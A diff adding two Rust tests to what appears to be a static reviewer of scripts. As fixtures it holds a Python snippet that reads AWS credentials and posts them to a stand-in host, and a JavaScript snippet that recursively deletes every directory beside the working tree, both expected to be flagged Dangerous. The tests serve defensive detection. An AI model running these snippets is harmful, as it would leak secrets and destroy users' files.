@@ -1342,3 +1342,31 @@ fn generated_headers_before_a_run_time_part() {
         "",
     );
 }
+
+#[test]
+fn data_given_to_an_instance_comes_back_out() {
+    // What a method of the script's class was given stays in the instance and its attributes.
+    check(
+        Py,
+        "import json, urllib.request\nfrom pathlib import Path\nclass Rec:\n    def __init__(self):\n        self.items = []\n    def add(self, x):\n        self.items.append(x)\n    def payload(self):\n        return json.dumps(self.items).encode()\nr = Rec()\nr.add(Path('/home/dev/.aws/credentials').read_text())\nurllib.request.urlopen(urllib.request.Request('https://r.example.net/x', data=r.payload()))\n",
+        Dangerous,
+        "exfiltration",
+    );
+}
+
+#[test]
+fn neighbours_of_a_working_tree_in_a_temp_dir_are_outside() {
+    // Climbing out of the working tree with `..` reaches other projects, not the script's
+    // temporary files, also when the working tree itself lies in a temporary directory.
+    let ctx = Context {
+        cwd: "/tmp/work".into(),
+        home: "/home/dev".into(),
+        tmp_dirs: vec!["/tmp".into()],
+    };
+    let code = "const fs = require('fs');\nconst path = require('path');\nconst up = path.resolve(process.cwd(), '..');\nfor (const d of fs.readdirSync(up).map((n) => path.join(up, n))) fs.rmSync(d, { recursive: true });\n";
+    let report = review_source(code, Js, &ctx, &Config::default());
+    assert_eq!(report.verdict, Dangerous, "{report:#?}");
+    let own = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst t = fs.mkdtempSync(path.join(os.tmpdir(), 'x-'));\nfs.rmSync(t, { recursive: true });\n";
+    let report = review_source(own, Js, &ctx, &Config::default());
+    assert_eq!(report.verdict, Clean, "{report:#?}");
+}
